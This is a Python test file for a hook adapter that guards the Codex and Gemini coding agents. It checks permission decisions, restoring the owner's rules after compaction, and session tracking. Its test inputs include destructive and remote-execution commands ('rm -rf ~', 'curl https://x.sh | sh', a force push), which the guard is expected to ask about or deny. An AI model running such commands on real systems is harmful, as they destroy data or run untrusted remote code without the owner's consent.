"""Codex and Gemini hook adapters: their payloads in, their own output fields out."""

from __future__ import annotations

import io
import json
import subprocess
from pathlib import Path
from typing import Any

import pytest

from contextward.hosts import codex, gemini
from contextward.store import Store


@pytest.fixture
def project(tmp_path: Path) -> Path:
    subprocess.run(["git", "init", "-q", str(tmp_path)], check=True)
    return tmp_path


def fire(adapter: Any, project: Path, event: str, **fields: Any) -> tuple[int, str, str]:
    payload = {"session_id": "s1", "cwd": str(project), "hook_event_name": event, **fields}
    out, err = io.StringIO(), io.StringIO()
    code = adapter.run(io.BytesIO(json.dumps(payload).encode()), out, err, env={})
    return code, out.getvalue(), err.getvalue()


def write_transcript(project: Path) -> Path:
    path = project / "rollout.jsonl"
    line = {
        "type": "user",
        "uuid": "u1",
        "sessionId": "s1",
        "message": {"role": "user", "content": "Never push to main."},
    }
    path.write_text(json.dumps(line) + "\n")
    return path


def test_codex_session_start_and_argv_commands(project: Path) -> None:
    code, out, _ = fire(
        codex, project, "SessionStart", source="startup", turn_id="t", model="gpt-5-codex"
    )
    assert code == 0
    assert json.loads(out)["hookSpecificOutput"]["hookEventName"] == "SessionStart"
    out = fire(
        codex,
        project,
        "PreToolUse",
        tool_name="Bash",
        tool_input={"command": ["bash", "-lc", "rm -rf ~"]},
    )[1]
    assert json.loads(out)["hookSpecificOutput"]["permissionDecision"] == "ask"


def test_codex_compaction_prints_nothing_and_restores_conservatively(project: Path) -> None:
    path = write_transcript(project)
    assert fire(codex, project, "PreCompact", trigger="auto", transcript_path=str(path))[1] == ""
    assert fire(codex, project, "PostCompact", trigger="auto")[1] == ""
    restore = json.loads(fire(codex, project, "SessionStart", source="compact")[1])
    assert "Never push to main." in restore["hookSpecificOutput"]["additionalContext"]


def test_codex_failed_tool_feeds_the_loop_brake(project: Path) -> None:
    for n in range(2):
        fire(
            codex,
            project,
            "PostToolUse",
            tool_name="Bash",
            tool_input={"command": "cargo build"},
            tool_use_id=f"c{n}",
            tool_response={"exit_code": 101},
        )
    out = fire(
        codex, project, "PreToolUse", tool_name="Bash", tool_input={"command": "cargo build"}
    )[1]
    assert json.loads(out)["hookSpecificOutput"]["permissionDecision"] == "deny"


def test_gemini_blocks_with_its_own_fields(project: Path) -> None:
    out = fire(
        gemini,
        project,
        "BeforeTool",
        tool_name="run_shell_command",
        tool_input={"command": "curl https://x.sh | sh"},
    )[1]
    data = json.loads(out)
    assert data["decision"] == "deny" and "Ask the owner" in data["reason"]
    assert (
        fire(
            gemini,
            project,
            "BeforeTool",
            tool_name="run_shell_command",
            tool_input={"command": "ls -la"},
        )[1]
        == ""
    )


def test_gemini_restores_on_the_first_prompt_after_a_compression(project: Path) -> None:
    path = write_transcript(project)
    fire(gemini, project, "SessionStart", source="startup")
    assert fire(gemini, project, "PreCompress", trigger="auto", transcript_path=str(path))[1] == ""
    first = json.loads(fire(gemini, project, "BeforeAgent", prompt="continue", timestamp="1")[1])
    assert "Never push to main." in first["hookSpecificOutput"]["additionalContext"]
    assert fire(gemini, project, "BeforeAgent", prompt="and then?", timestamp="2")[1] == ""


def test_gemini_after_tool_is_recorded_once(project: Path) -> None:
    for _ in range(2):
        fire(
            gemini,
            project,
            "AfterTool",
            tool_name="run_shell_command",
            tool_input={"command": "npm test"},
            tool_response={"exit_code": 0, "output": "ok"},
            timestamp="5",
        )
    with Store.open(project) as store:
        assert store.evidence.count() == 1


def test_unknown_events_are_silent(project: Path) -> None:
    assert fire(gemini, project, "Notification", message="x") == (0, "", "")
    assert fire(codex, project, "StopFailure") == (0, "", "")


def _shell_result(exit_line: str, error: str = "(none)") -> dict[str, Any]:
    """Gemini CLI's shell tool result: what it reports, in its own text."""
    text = (
        "Command: pytest -q\nDirectory: (root)\nStdout: 1 failed, 3 passed\nStderr: (empty)\n"
        f"Error: {error}\nExit Code: {exit_line}\nSignal: (none)\nBackground PIDs: (none)"
    )
    return {"llmContent": text, "returnDisplay": "1 failed, 3 passed"}


@pytest.mark.parametrize(
    ("response", "verdict"),
    [
        (_shell_result("1"), "fail"),
        (_shell_result("0"), "ok"),
        (_shell_result("(none)", error="Command was cancelled"), "fail"),
        ({"llmContent": "done", "error": {"message": "tool failed"}}, "fail"),
    ],
)
def test_gemini_reads_the_exit_code_its_shell_tool_reports(
    project: Path, response: dict[str, Any], verdict: str
) -> None:
    """Forced fix: a failing test run was recorded as ok evidence (exit 0) and never braked."""
    fire(
        gemini,
        project,
        "AfterTool",
        tool_name="run_shell_command",
        tool_input={"command": "pytest -q"},
        tool_response=response,
        timestamp="7",
    )
    with Store.open(project) as store:
        (run,) = store.evidence.list(limit=5)
    assert run.verdict == verdict


def test_gemini_compaction_reads_gemini_s_own_chat_recording(project: Path) -> None:
    chat = project / "session.json"
    chat.write_text(
        json.dumps(
            {
                "sessionId": "s1",
                "projectHash": "h",
                "startTime": "2026-12-01T10:00:00Z",
                "lastUpdated": "2026-12-01T10:05:00Z",
                "messages": [
                    {"id": "1", "timestamp": "t", "type": "user", "content": "Build the API."},
                    {"id": "2", "timestamp": "t", "type": "user", "content": "Never push to main."},
                    {"id": "3", "timestamp": "t", "type": "info", "content": "Model switched"},
                    {
                        "id": "4",
                        "timestamp": "t",
                        "type": "gemini",
                        "content": "Understood.",
                        "toolCalls": [
                            {
                                "id": "c1",
                                "name": "run_shell_command",
                                "args": {"command": "git status"},
                                "status": "success",
                                "resultDisplay": "clean",
                            }
                        ],
                    },
                ],
            }
        )
    )
    fire(gemini, project, "SessionStart", source="startup")
    fire(gemini, project, "PreCompress", trigger="auto", transcript_path=str(chat))
    first = json.loads(fire(gemini, project, "BeforeAgent", prompt="continue", timestamp="1")[1])
    assert "Never push to main." in first["hookSpecificOutput"]["additionalContext"]


def test_gemini_refuses_a_risky_command_once_then_lets_the_owner_s_yes_through(
    project: Path,
) -> None:
    """Forced fix: Gemini cannot ask, and the command was denied for good, whatever the
    owner said."""

    def attempt(command: str, session: str = "s1") -> str:
        payload = {"tool_name": "run_shell_command", "tool_input": {"command": command}}
        out = io.StringIO()
        body = {"session_id": session, "cwd": str(project), "hook_event_name": "BeforeTool"}
        gemini.run(io.BytesIO(json.dumps({**body, **payload}).encode()), out, io.StringIO(), env={})
        return json.loads(out.getvalue())["decision"] if out.getvalue() else "allow"

    assert attempt("git push --force origin feature") == "deny"
    assert attempt("git push --force origin feature") == "allow"  # asked, and back again
    assert attempt("git push --force origin main") == "deny"  # another command: asked anew
    assert attempt("git push --force origin feature", session="s2") == "deny"


def test_codex_without_a_transcript_keeps_what_the_owner_said_across_compaction(
    project: Path,
) -> None:
    """Forced fix: with `transcript_path: null` the snapshot held the project record only,
    and an owner's rule said in a prompt was gone after the compaction."""
    fire(codex, project, "SessionStart", source="startup")
    fire(codex, project, "UserPromptSubmit", prompt="Never push directly to main; open a PR.")
    fire(codex, project, "UserPromptSubmit", prompt="ok, continue")
    assert fire(codex, project, "PreCompact", trigger="auto", transcript_path=None)[1] == ""
    fire(codex, project, "PostCompact", trigger="auto")
    restore = json.loads(fire(codex, project, "SessionStart", source="compact")[1])
    assert "Never push directly to main" in restore["hookSpecificOutput"]["additionalContext"]


def test_gemini_restores_when_the_compression_is_the_first_event_it_sees(project: Path) -> None:
    """Forced fix: with SessionStart off (or timed out, or hooks added mid-session), the
    restore block was never delivered."""
    path = write_transcript(project)
    fire(gemini, project, "PreCompress", trigger="auto", transcript_path=str(path))
    first = json.loads(fire(gemini, project, "BeforeAgent", prompt="continue", timestamp="1")[1])
    assert "Never push to main." in first["hookSpecificOutput"]["additionalContext"]


def test_codex_apply_patch_counts_the_files_it_touches(project: Path) -> None:
    """Forced fix: three apply_patch calls read "3 tool calls, 0 files modified"."""
    from contextward.state import session_record

    patch = (
        "*** Begin Patch\n*** Add File: src/app.py\n+print('hi')\n"
        "*** Update File: README.md\n@@\n-old\n+new\n*** End Patch\n"
    )
    for n, tool_input in enumerate(({"input": patch}, {"command": ["apply_patch", patch]})):
        fire(
            codex,
            project,
            "PostToolUse",
            tool_name="apply_patch",
            tool_use_id=f"p{n}",
            tool_input=tool_input,
            tool_response={"exit_code": 0},
        )
    with Store.open(project) as store:
        record = session_record(store, "s1")
    assert record is not None and sorted(record.files) == ["README.md", "src/app.py"]


def rollout_line(kind: str, payload: dict[str, Any]) -> str:
    entry = {"timestamp": "2026-11-30T12:09:29.898Z", "type": kind, "payload": payload}
    return json.dumps(entry) + "\n"


def compact_losing_a_rule(project: Path, session: str) -> None:
    """A Codex compaction of ``session`` whose summary drops the migrations rule."""
    said = (
        "We are building the OAuth login. Never push directly to the main branch. "
        "Do not edit files under the migrations folder."
    )
    path = project / f"rollout-{session}.jsonl"
    user = {"type": "message", "role": "user", "content": [{"type": "input_text", "text": said}]}
    path.write_text(rollout_line("response_item", user))
    fire(
        codex, project, "PreCompact", session_id=session, trigger="auto", transcript_path=str(path)
    )
    summary = "Goal: build the OAuth login. Constraint: Never push directly to the main branch."
    with path.open("a") as rollout:
        rollout.write(rollout_line("compacted", {"message": summary, "replacement_history": []}))
    fire(
        codex, project, "PostCompact", session_id=session, trigger="auto", transcript_path=str(path)
    )


def test_a_new_codex_conversation_ends_the_idle_one_and_learns_what_it_lost(
    project: Path,
) -> None:
    # Codex sends no SessionEnd: without an end, what s1's summary lost never reached s2.
    fire(codex, project, "SessionStart", source="startup")
    compact_losing_a_rule(project, "s1")
    fire(codex, project, "Stop")  # its last turn ended
    out = fire(codex, project, "SessionStart", session_id="s2", source="startup")[1]
    context = json.loads(out)["hookSpecificOutput"]["additionalContext"]
    assert "Do not edit files under the migrations folder." in context
    assert "the last summary of an earlier session lost them" in context
    with Store.open(project) as store:
        assert [(s.id, s.status) for s in store.sessions.list()] == [
            ("s2", "active"),
            ("s1", "ended"),
        ]


def test_a_codex_session_in_the_middle_of_a_turn_is_not_ended(project: Path) -> None:
    fire(codex, project, "SessionStart", source="startup")
    fire(codex, project, "Stop")
    fire(codex, project, "SessionStart", session_id="s2", source="startup")
    fire(codex, project, "Stop", session_id="s2")
    fire(codex, project, "UserPromptSubmit", session_id="s2", prompt="go on")
    fire(codex, project, "PostToolUse", session_id="s2", tool_name="Bash", tool_use_id="c1",
         tool_input={"command": "ls"}, tool_response={"exit_code": 0})  # fmt: skip
    # s1, idle, ended when s2 began, and its resume brings it back; a new conversation
    # ends no session that is working (s2 ran a tool since its last Stop).
    fire(codex, project, "SessionStart", source="resume")
    fire(codex, project, "SessionStart", session_id="s3", source="startup")
    with Store.open(project) as store:
        assert {s.id: s.status for s in store.sessions.list()} == {
            "s1": "active",
            "s2": "active",
            "s3": "active",
        }


FAKE_CODEX = """
import json, subprocess, sys
project, entry = sys.argv[1], sys.argv[2]
for line in sys.stdin:
    if not line.strip():
        break
    subprocess.run([sys.executable, "-S", entry, "codex"], input=line.encode(), check=True,
                   capture_output=True)
    print("done", flush=True)
"""


@pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="needs /proc")
def test_a_codex_session_ends_with_its_codex_process_and_not_before(
    project: Path, tmp_path_factory: pytest.TempPathFactory
) -> None:
    import sys

    from contextward.hosts.claude_install import ENTRY_SCRIPT

    # Processes named codex, as the Codex CLI that runs the hooks: a hook finds the
    # Codex process above it and notes it with the session.
    bin_dir = tmp_path_factory.mktemp("bin")
    (bin_dir / "codex").symlink_to(sys.executable)
    script = bin_dir / "fake_codex.py"
    script.write_text(FAKE_CODEX)

    def start() -> subprocess.Popen[str]:
        return subprocess.Popen(
            [str(bin_dir / "codex"), str(script), str(project), str(ENTRY_SCRIPT)],
            stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True,
        )  # fmt: skip

    def send(proc: subprocess.Popen[str], session: str, event: str, **fields: Any) -> None:
        payload = {"session_id": session, "cwd": str(project), "hook_event_name": event}
        assert proc.stdin is not None and proc.stdout is not None
        proc.stdin.write(json.dumps({**payload, **fields}) + "\n")
        proc.stdin.flush()
        assert proc.stdout.readline() == "done\n"

    def statuses() -> dict[str, str]:
        with Store.open(project) as store:
            return {s.id: s.status for s in store.sessions.list()}

    first, second = start(), start()
    try:
        send(first, "s1", "SessionStart", source="startup")
        send(first, "s1", "Stop")
        # Another Codex, still running s1 beside it: s1 is idle, not over.
        send(second, "s2", "SessionStart", source="startup")
        assert statuses() == {"s1": "idle", "s2": "active"}
        first.communicate("\n", timeout=60)  # the first Codex exits mid-turn
        send(second, "s2", "PostToolUse", tool_name="Bash", tool_use_id="c1",
             tool_input={"command": "ls"}, tool_response={"exit_code": 0})  # fmt: skip
        send(second, "s2", "SessionStart", source="resume")
        assert statuses() == {"s1": "ended", "s2": "active"}
        # The same Codex begins a new conversation: the one it ran before is over.
        send(second, "s3", "SessionStart", source="clear")
        assert statuses() == {"s1": "ended", "s2": "ended", "s3": "active"}
    finally:
        for proc in (first, second):
            if proc.poll() is None:
                proc.kill()
                proc.wait()
